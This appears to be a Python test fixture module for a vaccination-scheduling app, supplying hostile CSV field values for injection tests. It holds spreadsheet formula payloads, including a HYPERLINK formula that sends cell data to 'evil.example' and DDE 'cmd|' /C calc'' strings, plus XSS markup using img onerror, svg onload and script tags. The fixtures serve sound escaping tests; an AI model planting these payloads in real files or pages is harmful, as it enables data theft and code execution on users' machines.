"""Hostile input shared by the injection tests: spreadsheet formulas and HTML/JS markup in every
text field a user can fill (ids, names, addresses, wards, phones, households, notes).

The lists are written as real CSV files and go through the real readers, solver and writers.
Each markup payload sets ``window.__xss`` (and some call ``alert``) if it ever runs, so a browser
test can tell. Team ids carry no ``/``: they are part of URL paths.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

from tests.helpers import DEPOT, START, around, write_csv

#: OWASP's formula triggers: a cell that starts with one of these may be evaluated.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

FORMULA_TEAMS = ["=T1+1", "@T2"]
FORMULA_PLANNED = [
    {
        "resident_id": "=R1+1",
        "full_name": "=Ân Bình",
        "household_id": "+H1",
        "address": '=HYPERLINK("http://evil.example/?d="&A2,"Tổ 1")',
        "ward": "@SUM(1+1)*cmd|' /C calc'!A0",
        "phone": "+84 912 000 001",
        "notes": "-2+3",
    },
    {
        "resident_id": "@R2",
        "full_name": "+Cúc Đào",
        "household_id": "-H2",
        "address": "+Tổ 2",
        "ward": "-Phường",
        "phone": "=1+1",
        "notes": "@note",
    },
    {
        "resident_id": "-R5",
        "full_name": "@Hà",
        "household_id": "=H5",
        "address": "-3+4 ngõ 5",
        "ward": "=W5",
        "phone": "-0912",
        "notes": "+x",
    },
]
#: not due in the horizon: unassigned, with its ward and address in unassigned.csv
FORMULA_NOT_DUE = {
    "resident_id": "-R3",
    "full_name": "=Lan",
    "household_id": "@H3",
    "address": "@Tổ 3",
    "ward": "=W3",
    "phone": "+84 3",
    "notes": "=3",
}
#: an unreadable latitude: an input problem naming this resident
FORMULA_BAD_ROW = {"resident_id": "+R4", "full_name": "-Mai", "lat": "=cmd|' /C calc'!A0"}

XSS_TEAM = '<img src=x onerror="window.__xss=1;alert(1)">${window.__xss=2}`'
XSS_TEAM_NAME = "</script><script>window.__xss=3;alert(3)</script><!--"
XSS_PLANNED = [
    {
        "resident_id": '"><svg onload="window.__xss=4">',
        "full_name": "<b>Ân</b> Bình",
        "household_id": "<script>window.__xss=8</script>",
        "address": '</script><img src=x onerror="window.__xss=5;alert(5)"><!--',
        "ward": '<img src=x onerror="window.__xss=6">',
        "phone": '"><img src=x onerror="window.__xss=7">',
        "notes": '<img src=x onerror="window.__xss=9">',
    },
    {
        "resident_id": "<!--<script>",
        "full_name": "'Cúc' \"Đào\"",
        "household_id": "</textarea>",
        "address": "${window.__xss=12}`;window.__xss=13;`",
        "ward": "<style>*{}</style>",
        "phone": "javascript:window.__xss=14",
        "notes": "</title><svg onload=window.__xss=15>",
    },
]
XSS_NOT_DUE = {
    "resident_id": '<img src=x onerror="window.__xss=10;alert(10)">',
    "full_name": "<i>Lan</i>",
    "household_id": "<u>h</u>",
    "address": '<img src=x onerror="window.__xss=16">',
    "ward": '<svg onload="window.__xss=17">',
    "phone": "",
    "notes": "",
}
XSS_WARD_POLYGON = '<img src=x onerror="window.__xss=11;alert(11)">'

#: every markup payload above, for "is it escaped wherever it appears" checks
XSS_VALUES = sorted(
    {
        XSS_TEAM,
        XSS_TEAM_NAME,
        XSS_WARD_POLYGON,
        *(v for r in [*XSS_PLANNED, XSS_NOT_DUE] for v in r.values() if v),
    }
)


def teams_rows(ids: list[str], name: str = "Trạm") -> list[dict[str, Any]]:
    return [
        {
            "team_id": tid,
            "name": name,
            "depot_lat": f"{DEPOT[0]:.6f}",
            "depot_lon": f"{DEPOT[1]:.6f}",
            "shift_start": "07:30",
            "shift_end": "16:30",
            "has_doctor": "true",
            "max_doses": "30",
        }
        for tid in ids
    ]


def residents_rows(
    planned: list[dict[str, str]],
    not_due: dict[str, str],
    bad: dict[str, str] | None = None,
    start: dt.date = START,
) -> list[dict[str, Any]]:
    """Planned residents around the depot, one not due before ``start`` + 30 days, one bad row."""
    rows = []
    for k, fields in enumerate(planned):
        lat, lon = around(k, len(planned) + 1, 400)
        rows.append(
            {
                **fields,
                "lat": f"{lat:.6f}",
                "lon": f"{lon:.6f}",
                "birth_year": "1950",
                "doses_received": "0",
                "last_dose_date": "",
            }
        )
    lat, lon = around(len(planned), len(planned) + 1, 400)
    yesterday = (start - dt.timedelta(days=1)).isoformat()
    rows.append(
        {
            **not_due,
            "lat": f"{lat:.6f}",
            "lon": f"{lon:.6f}",
            "birth_year": "1950",
            "doses_received": "1",
            "last_dose_date": yesterday,
        }
    )
    if bad:
        rows.append({"lon": f"{DEPOT[1]:.6f}", "birth_year": "1950", **bad})
    return rows


def write_lists(
    folder: Path, teams: list[dict[str, Any]], residents: list[dict[str, Any]]
) -> tuple[Path, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    return (write_csv(folder / "teams.csv", teams), write_csv(folder / "residents.csv", residents))
